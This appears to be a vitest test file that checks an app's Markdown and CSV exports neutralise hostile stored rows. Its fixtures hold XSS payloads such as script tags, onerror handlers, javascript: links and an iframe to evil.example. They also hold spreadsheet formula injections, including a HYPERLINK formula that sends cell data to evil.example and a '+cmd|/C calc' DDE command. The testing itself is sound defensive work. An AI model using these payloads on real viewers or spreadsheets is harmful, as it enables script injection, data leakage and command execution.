// Exports are opened in Markdown viewers and spreadsheets, which render raw HTML, follow links
// and run formulas (issue 9, finding 10). Hostile rows (as older versions or other stores may
// hold them: written straight to the store, not through push) must come out inert: no unsafe
// link targets, no raw HTML, front matter that YAML parsers read back unchanged, and no CSV
// cell a spreadsheet runs as a formula.
import MarkdownIt from 'markdown-it';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import YAML from 'yaml';
import type { Store } from '../../service/db/connect.ts';
import { scansCsv } from '../../service/export/csv.ts';
import { markdownExport, safeMarkdown, type ExportFile } from '../../service/export/markdown.ts';
import { LIMITS } from '../../shared/model.ts';
import { createLibrary, createUser } from '../../service/repos/accounts.ts';
import { saveObject, type StoredObject } from '../../service/repos/objects.ts';
import type { ObjectType } from '../../shared/model.ts';
import { freshStore } from '../helpers/store.ts';
import { cpuMs } from '../helpers/cpu-time.ts';

let store: Store;
let libraryId: string;
let files: ExportFile[];
let csv: string;

const DEL = '\u007f';
const TITLE = `Trust ${DEL} <script>alert(1)</script> "quoted" \u0085 \u2028 \ufeff end`;
const HOSTILE_MARKDOWN = [
  'Intro <script>alert(1)</script> and <img src=x onerror=alert(2)> and <a href="javascript:alert(3)">a</a>.',
  '',
  '<iframe src="https://evil.example/"></iframe>',
  '',
  '<div onmouseover="alert(4)">',
  'block',
  '</div>',
  '',
  '[one](javascript:alert(5)) [two]( JaVaScRiPt:alert(6)) [three](&#106;avascript:alert(7)) [four](<javascript:alert(8)>) [five](data:text/html,<script>alert(9)</script>) [six](vbscript:x)',
  '',
  '<javascript:alert(10)> \\\\<script>alert(11)</script> <!-- <img src=x onerror=alert(12)> -->',
  '',
  '[ref]: javascript:alert(13)',
  '',
  'Good: [page](https://example.org/a?b=1) and [mail](mailto:a@example.org).',
  '',
  '```html',
  '<b>code stays as it is</b>',
  '```',
].join('\n');

const FIELD_VALUES: Record<string, string> = {
  plain_equals: '=HYPERLINK("https://evil.example/?"&A1,"click")',
  space_equals: ' =1+1',
  spaces_plus: '   +cmd|/C calc!A0',
  tab_start: '\t=2+2',
  cr_start: '\r=3+3',
  minus: '-4+5',
  at: '@SUM(A1:A2)',
  nbsp_at: '\u00a0@SUM(A1)',
  fullwidth: '\uff1d1+1',
  harmless: 'Registered in Utrecht',
  // A question of the scan template, so the Markdown export lists it with its evidence.
  name: '+Acme',
};

async function save(type: ObjectType, id: string, fields: Record<string, unknown>, userId: string): Promise<void> {
  const now = new Date().toISOString();
  const object: StoredObject = { type, id, libraryId, version: 1, deleted: false, fields, fieldVersions: {}, createdBy: userId, updatedBy: userId, createdAt: now, updatedAt: now };
  await saveObject(store.db, object, true);
}

beforeAll(async () => {
  store = await freshStore();
  libraryId = (await createLibrary(store.db, 'Export safety')).id;
  const user = await createUser(store.db, { email: 'pat@example.org', name: `Pat <img src=x onerror=alert(14)> ${DEL}` });
  const caseId = crypto.randomUUID();
  const companyId = crypto.randomUUID();
  const scanId = crypto.randomUUID();
  await save('case', caseId, { title: TITLE, description: HOSTILE_MARKDOWN, status: 'open', members: [user.id], lessons: HOSTILE_MARKDOWN }, user.id);
  await save('company', companyId, { name: 'Acme <script>alert(15)</script>', domains: ['acme.example'], legalName: '<img src=x onerror=alert(16)>', identifiers: {} }, user.id);
  await save(
    'clip',
    crypto.randomUUID(),
    {
      url: 'https://news.example.org/story',
      canonicalUrl: 'javascript:alert(17)',
      kind: 'selection',
      title: TITLE,
      siteName: `News ${DEL}`,
      byline: 'A <b>byline</b>',
      capturedAt: '2026-11-30T10:00:00.000Z',
      capturedBy: user.id,
      tags: [`tag ${DEL}`, 'yes', '- item', 'key: value'],
      caseIds: [caseId],
      companyId,
      markdown: HOSTILE_MARKDOWN,
      note: HOSTILE_MARKDOWN,
      selection: { text: 'Quoted <script>alert(18)</script>\nsecond [line](javascript:alert(19))', quoteUrl: 'javascript:alert(20)' },
    },
    user.id,
  );
  await save('scan', scanId, { companyId, caseId, templateId: 'company-scan-v1', status: 'draft' }, user.id);
  for (const [field, value] of Object.entries(FIELD_VALUES)) {
    await save(
      'answer',
      crypto.randomUUID(),
      {
        scanId,
        field,
        value,
        method: 'manual',
        evidence: [
          { url: 'javascript:alert(21)', snippet: '<script>alert(22)</script>' },
          { url: 'data:text/html;base64,PHNjcmlwdD4=', snippet: '=1+1' },
          { url: 'https://acme.example/about', snippet: 'About us' },
        ],
        confirmedBy: null,
        note: '',
      },
      user.id,
    );
  }
  files = [];
  for await (const file of markdownExport(store.db, { libraryId })) files.push(file);
  csv = '';
  for await (const chunk of scansCsv(store.db, { libraryId })) csv += chunk;
});

afterAll(() => store.close());

// A permissive viewer: raw HTML on, every link target accepted (as some wikis do).
const viewer = new MarkdownIt({ html: true, linkify: true });
viewer.validateLink = () => true;

/** Front matter and body of an exported file. */
function split(content: string): { yaml: string; body: string } {
  const match = /^---\n([\s\S]*?)\n---\n/.exec(content);
  expect(match, content.slice(0, 200)).not.toBeNull();
  return { yaml: match![1]!, body: content.slice(match![0].length) };
}

// What js-yaml and PyYAML refuse in a YAML stream (js-yaml's PATTERN_NON_PRINTABLE).
// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is being looked for
const NON_PRINTABLE = /[\x00-\x08\x0B\x0C\x0E-\x1F\x7F-\x84\x86-\x9F\uFEFF\uFFFE\uFFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?:[^\uD800-\uDBFF]|^)[\uDC00-\uDFFF]/;

describe('Markdown export', () => {
  it('writes every file', () => {
    expect(files.map((file) => file.path.split('/')[0]).sort()).toEqual(['cases', 'clips', 'companies', 'index.md']);
  });

  it('renders to no raw HTML and no unsafe link in a viewer that allows both', () => {
    for (const file of files) {
      const html = viewer.render(split(file.content).body);
      expect(html, file.path).not.toMatch(/<(script|iframe|img|div|object|embed|svg)\b/i);
      for (const tag of html.match(/<[a-z][^>]*>/gi) ?? []) expect(tag, file.path).not.toMatch(/\s(on\w+|style)\s*=/i);
      for (const [, target] of html.matchAll(/\s(?:href|src)="([^"]*)"/g)) {
        expect(target, file.path).toMatch(/^(https?:|mailto:|#|\.\.\/|[a-z0-9-]+\/|[a-z0-9-]+\.md)/i);
      }
    }
  });

  it('keeps the text, the safe links and the code of what it neutralised', () => {
    const clip = files.find((file) => file.path.startsWith('clips/'))!;
    const html = viewer.render(split(clip.content).body);
    // Shown as text, not run.
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('<a href="https://example.org/a?b=1">page</a>');
    expect(html).toContain('<a href="mailto:a@example.org">mail</a>');
    expect(html).toContain('<a href="https://news.example.org/story">https://news.example.org/story</a>');
    // Code blocks are code: left exactly as written.
    expect(clip.content).toContain('```html\n<b>code stays as it is</b>\n```');
    // The quote's link back had a javascript: target: left out, the quote kept.
    expect(clip.content).not.toMatch(/javascript:alert\(20\)/);
    expect(html).toContain('Quoted &lt;script&gt;alert(18)&lt;/script&gt;');
    const company = files.find((file) => file.path.startsWith('companies/'))!;
    expect(company.content).toContain('<https://acme.example/about>');
    expect(company.content).not.toMatch(/javascript:alert\(21\)|data:text\/html/);
  });

  it('writes front matter that YAML parsers read back unchanged, DEL and all', () => {
    for (const file of files) {
      const { yaml } = split(file.content);
      expect(NON_PRINTABLE.test(yaml), `${file.path}: ${JSON.stringify(yaml)}`).toBe(false);
      const parsed = YAML.parse(yaml, { schema: 'core', strict: true }) as Record<string, unknown>;
      expect(parsed, file.path).toBeTypeOf('object');
    }
    const clip = YAML.parse(split(files.find((file) => file.path.startsWith('clips/'))!.content).yaml) as Record<string, unknown>;
    expect(clip.title).toBe(TITLE);
    expect(clip.tags).toEqual([`tag ${DEL}`, 'yes', '- item', 'key: value']);
    expect(clip.site).toBe(`News ${DEL}`);
    const kase = YAML.parse(split(files.find((file) => file.path.startsWith('cases/'))!.content).yaml) as Record<string, unknown>;
    expect(kase.title).toBe(TITLE);
    // YAML 1.1 parsers read a bare yes as true: strings are always quoted.
    expect(split(files.find((file) => file.path.startsWith('clips/'))!.content).yaml).toContain('  - "yes"');
  });
});

describe('Markdown export of pathological text', () => {
  const fill = (unit: string) => unit.repeat(Math.ceil(LIMITS.longText / unit.length)).slice(0, LIMITS.longText);
  const inputs = { backslashes: fill('\\'), 'backslashes before tags': fill('\\\\\\<b>'), tags: fill('<a'), links: fill('](('), 'angle links': fill('](<'), definitions: fill('[a]: '), 'code fences': fill('```\n<b>\n'), lines: fill('a\n\n') };

  for (const [name, input] of Object.entries(inputs)) {
    it(`${name}: ${LIMITS.longText} characters are made inert in bounded time`, () => {
      safeMarkdown(input.slice(0, 10_000));
      // CPU time (the former tag pattern took 80 s on a run of backslashes); generous for CI.
      const { ms, value: out } = cpuMs(() => safeMarkdown(input), 500);
      expect(ms, name).toBeLessThan(500);
      expect(viewer.render(out)).not.toMatch(/<(a|b)\b/);
    });
  }
});

/** RFC 4180 rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += char;
  }
  return rows;
}

describe('CSV export', () => {
  it('neutralises every cell a spreadsheet would run as a formula, leading spaces or not', () => {
    const rows = parseCsv(csv.replace(/^\uFEFF/, ''));
    const header = rows[0]!;
    const answers = rows.filter((row) => Object.hasOwn(FIELD_VALUES, row[header.indexOf('field')]!));
    expect(answers).toHaveLength(Object.keys(FIELD_VALUES).length);
    for (const row of rows) {
      for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[\s\u00a0]*[=+\-@\uff1d]|^[\t\r]/);
    }
    const answer = (field: string) => answers.find((row) => row[header.indexOf('field')] === field)![header.indexOf('answer')];
    for (const [field, value] of Object.entries(FIELD_VALUES)) {
      expect(answer(field), field).toBe(field === 'harmless' ? value : `'${value}`);
    }
  });
});
